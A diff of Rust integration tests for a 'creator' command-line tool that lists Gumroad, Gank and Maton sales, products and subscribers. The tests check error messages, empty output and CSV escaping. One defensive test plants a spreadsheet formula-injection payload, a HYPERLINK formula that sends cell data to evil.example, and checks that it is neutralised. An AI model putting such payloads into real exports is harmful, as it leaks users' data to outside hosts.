@@ -210,15 +210,137 @@ async fn gumroad_rejected_token_is_one_line_naming_the_variable_exit_3() {
     assert!(!stderr(&out).contains(GUMROAD_TOKEN));
 }
 
+/// A loopback port nothing listens on (bound, then closed).
+fn closed_port() -> u16 {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.local_addr().unwrap().port()
+}
+
 #[tokio::test]
-async fn unreachable_platform_names_the_url_variable() {
+async fn unreachable_platform_says_why_and_names_the_url_variable() {
     let mut cmd = creator();
     cmd.args(["products", "--provider", "gumroad"])
         .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
-        // Nothing listens on port 9 of loopback.
-        .env("GUMROAD_API_URL", "http://127.0.0.1:9");
+        .env(
+            "GUMROAD_API_URL",
+            format!("http://127.0.0.1:{}", closed_port()),
+        );
     let out = run(cmd).await;
     assert_one_line_error(&out, 1, "GUMROAD_API_URL");
+    let err = stderr(&out);
+    assert!(err.starts_with("error: could not reach Gumroad: "), "{err}");
+    // The cause from the source() chain, in the OS's words.
+    assert!(err.to_lowercase().contains("connection refused"), "{err}");
+    assert!(!err.contains("transport error"), "{err}");
+}
+
+#[tokio::test]
+async fn a_tls_failure_shows_its_cause() {
+    // HTTPS to a plain-HTTP server: the TLS handshake fails.
+    let server = MockServer::start().await;
+    let mut cmd = creator();
+    cmd.args(["products", "--provider", "gumroad"])
+        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
+        .env(
+            "GUMROAD_API_URL",
+            server.uri().replace("http://", "https://"),
+        );
+    let out = run(cmd).await;
+    assert_one_line_error(&out, 1, "GUMROAD_API_URL");
+    let err = stderr(&out);
+    let cause = err
+        .strip_prefix("error: could not reach Gumroad: error sending request: ")
+        .unwrap_or_else(|| panic!("no cause after `error sending request`: {err}"));
+    assert!(!cause.starts_with("(check"), "{err}");
+    assert!(
+        server.recorded().await.is_empty(),
+        "no HTTP request got through"
+    );
+}
+
+/// A base URL where nothing is the API (every path 404, no JSON) names the
+/// variable that set it, on every command that reads a platform.
+#[tokio::test]
+async fn a_base_url_that_answers_404_for_everything_names_its_variable() {
+    let server = MockServer::start().await;
+    let uri = server.uri();
+    let dir = TempDir::new("404");
+    let db = dir.db();
+    let db = db.to_str().unwrap();
+    // (arguments, environment, the variable the error must name)
+    type Case<'a> = (&'a [&'a str], &'a [(&'a str, &'a str)], &'a str);
+    let cases: [Case<'_>; 6] = [
+        (
+            &["products", "--provider", "gumroad"],
+            &[
+                ("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN),
+                ("GUMROAD_API_URL", &uri),
+            ],
+            "GUMROAD_API_URL",
+        ),
+        (
+            &["sales", "--provider", "gumroad", "--format", "csv"],
+            &[
+                ("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN),
+                ("GUMROAD_API_URL", &uri),
+            ],
+            "GUMROAD_API_URL",
+        ),
+        (
+            &["subscribers", "--provider", "gank"],
+            &[
+                ("GANK_CREATOR_TOKEN", GANK_CREATOR_TOKEN),
+                ("GANK_V2_URL", &uri),
+            ],
+            "GANK_V2_URL",
+        ),
+        (
+            &["sales", "--provider", "maton"],
+            &[("MATON_API_KEY", MATON_KEY), ("MATON_API_URL", &uri)],
+            "MATON_API_URL",
+        ),
+        (
+            &["license", "verify", "--product", "P-1", "KEY-1"],
+            &[("GUMROAD_API_URL", &uri)],
+            "GUMROAD_API_URL",
+        ),
+        (
+            &[
+                "sync",
+                "--provider",
+                "gumroad",
+                "--only",
+                "sales",
+                "--db",
+                db,
+            ],
+            &[
+                ("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN),
+                ("GUMROAD_API_URL", &uri),
+            ],
+            "GUMROAD_API_URL",
+        ),
+    ];
+    for (args, envs, var) in cases {
+        let mut cmd = creator();
+        cmd.args(args).envs(envs.iter().copied());
+        let out = run(cmd).await;
+        assert_one_line_error(&out, 1, &format!("check {var} if you point"));
+        let err = stderr(&out);
+        assert!(
+            err.contains("HTTP 404") || err.contains("404 page"),
+            "{args:?}: {err}"
+        );
+        assert!(
+            !err.contains("license key"),
+            "{args:?}: not a license verdict: {err}"
+        );
+        assert!(
+            !err.to_lowercase().contains(": not found:"),
+            "{args:?}: {err}"
+        );
+        assert!(stdout(&out).is_empty(), "{args:?}: {}", stdout(&out));
+    }
 }
 
 #[tokio::test]
@@ -250,10 +372,7 @@ async fn gank_active_subscribers_use_the_creator_token_and_stop_at_total() {
     .env("GANK_V2_URL", server.uri());
     let out = run(cmd).await;
     assert!(out.status.success(), "{}", stderr(&out));
-    let rows: Vec<serde_json::Value> = stdout(&out)
-        .lines()
-        .map(|l| serde_json::from_str(l).unwrap())
-        .collect();
+    let rows = jsonl(&out);
     assert_eq!(rows.len(), 3);
     assert!(
         rows.iter()
@@ -386,4 +505,134 @@ async fn output_streams_page_by_page_before_the_list_is_complete() {
     let last = lines.next_line().await.unwrap().unwrap();
     assert!(last.contains("B28UKN-dvxYabdavG97Y-Q=="), "{last}");
     assert!(child.wait().await.unwrap().success());
+}
+
+/// A spreadsheet must not run a cell of `creator sales --format csv` as a
+/// formula: a product named `=HYPERLINK(…)` or a buyer email `-2+3…` (both
+/// chosen by other people) are written with a leading `'`.
+#[tokio::test]
+async fn sales_csv_neutralises_formula_cells_from_the_platform() {
+    let mut page: serde_json::Value =
+        serde_json::from_slice(&fixture("gumroad/sales_page3.json")).unwrap();
+    let first = page["sales"][0].clone();
+    let mut second = first.clone();
+    page["sales"][0]["product_name"] =
+        r#"=HYPERLINK("https://evil.example/?d="&A1,"Pencil pack")"#.into();
+    second["id"] = "c2Vjb25kU2FsZQ==".into();
+    second["product_name"] = "-2+3".into();
+    second["email"] = "@SUM(1+1)@example.com".into();
+    second["purchase_email"] = "@SUM(1+1)@example.com".into();
+    page["sales"] = serde_json::json!([page["sales"][0], second]);
+    let server = MockServer::start().await;
+    Mock::given(method("GET"))
+        .and(path("/v2/sales"))
+        .respond_with(
+            ResponseTemplate::new(200)
+                .set_body_raw(serde_json::to_vec(&page).unwrap(), "application/json"),
+        )
+        .mount(&server)
+        .await;
+    mount_fallback(&server).await;
+    let mut cmd = creator();
+    cmd.args(["sales", "--provider", "gumroad", "--format", "csv"])
+        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
+        .env("GUMROAD_API_URL", server.uri());
+    let out = run(cmd).await;
+    assert!(out.status.success(), "{}", stderr(&out));
+    let csv = stdout(&out);
+    let rows: Vec<&str> = csv.lines().collect();
+    assert_eq!(rows.len(), 3, "{csv}");
+    assert!(
+        rows[1].contains(
+            r#","'=HYPERLINK(""https://evil.example/?d=""&A1,""Pencil pack"")",guest@example.com,9.60,USD,"#
+        ),
+        "{csv}"
+    );
+    assert!(
+        rows[2].contains(",'-2+3,'@SUM(1+1)@example.com,9.60,USD,"),
+        "{csv}"
+    );
+    for cell in rows.iter().flat_map(|r| r.split(',')) {
+        assert!(!cell.starts_with(['=', '+', '@']), "{cell} in {csv}");
+    }
+}
+
+const LIST_COMMANDS: [&str; 3] = ["products", "sales", "subscribers"];
+const FORMATS: [&str; 4] = ["table", "csv", "json", "jsonl"];
+
+/// Runs `creator <command> --provider gumroad --format <format>` against
+/// `server` for every list command and format, all at once.
+async fn every_list_and_format(
+    server: &MockServer,
+) -> Vec<((&'static str, &'static str), std::process::Output)> {
+    let runs = LIST_COMMANDS.iter().flat_map(|command| {
+        FORMATS.iter().map(move |format| {
+            let mut cmd = creator();
+            cmd.args([command, "--provider", "gumroad", "--format", format])
+                .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
+                .env("GUMROAD_API_URL", server.uri());
+            async move { ((*command, *format), run(cmd).await) }
+        })
+    });
+    futures::future::join_all(runs).await
+}
+
+/// A first page that fails leaves stdout empty (no table or CSV header, no
+/// `[]`), and the error is the one line on stderr.
+#[tokio::test]
+async fn a_failing_first_page_prints_no_header_only_the_error() {
+    let server = MockServer::start().await;
+    Mock::given(wiremock::matchers::any())
+        .respond_with(ResponseTemplate::new(500).set_body_raw(
+            r#"{"success":false,"message":"Something went wrong."}"#,
+            "application/json",
+        ))
+        .mount(&server)
+        .await;
+    for (what, out) in every_list_and_format(&server).await {
+        assert_eq!(stdout(&out), "", "{what:?}: stdout has more than nothing");
+        assert_one_line_error(&out, 1, "Gumroad answered HTTP 500: Something went wrong.");
+        assert!(
+            !stderr(&out).contains("API error"),
+            "{what:?}: {}",
+            stderr(&out)
+        );
+    }
+}
+
+/// An empty list prints its header in table and CSV (the columns it would
+/// have had), `[]` in JSON and nothing in JSON Lines.
+#[tokio::test]
+async fn an_empty_list_prints_the_header_in_table_and_csv() {
+    let server = MockServer::start().await;
+    for (route, body) in [
+        ("/v2/products", r#"{"success":true,"products":[]}"#),
+        ("/v2/sales", r#"{"success":true,"sales":[]}"#),
+    ] {
+        Mock::given(method("GET"))
+            .and(path(route))
+            .respond_with(ResponseTemplate::new(200).set_body_raw(body, "application/json"))
+            .mount(&server)
+            .await;
+    }
+    mount_fallback(&server).await;
+    // (Gumroad lists subscribers per membership product: none here.)
+    for ((command, format), out) in every_list_and_format(&server).await {
+        assert!(out.status.success(), "{command} {format}: {}", stderr(&out));
+        let shown = stdout(&out);
+        let lines: Vec<&str> = shown.lines().collect();
+        match format {
+            "table" => {
+                assert_eq!(lines.len(), 2, "{command}: {shown}");
+                assert!(lines[0].starts_with("provider  id"), "{command}: {shown}");
+                assert!(lines[1].starts_with("--------"), "{command}: {shown}");
+            }
+            "csv" => assert_eq!(lines.len(), 1, "{command}: {shown}"),
+            "json" => assert_eq!(shown, "[]\n", "{command}"),
+            _ => assert_eq!(shown, "", "{command}"),
+        }
+        if format == "csv" {
+            assert!(lines[0].starts_with("provider,id,"), "{command}: {shown}");
+        }
+    }
 }
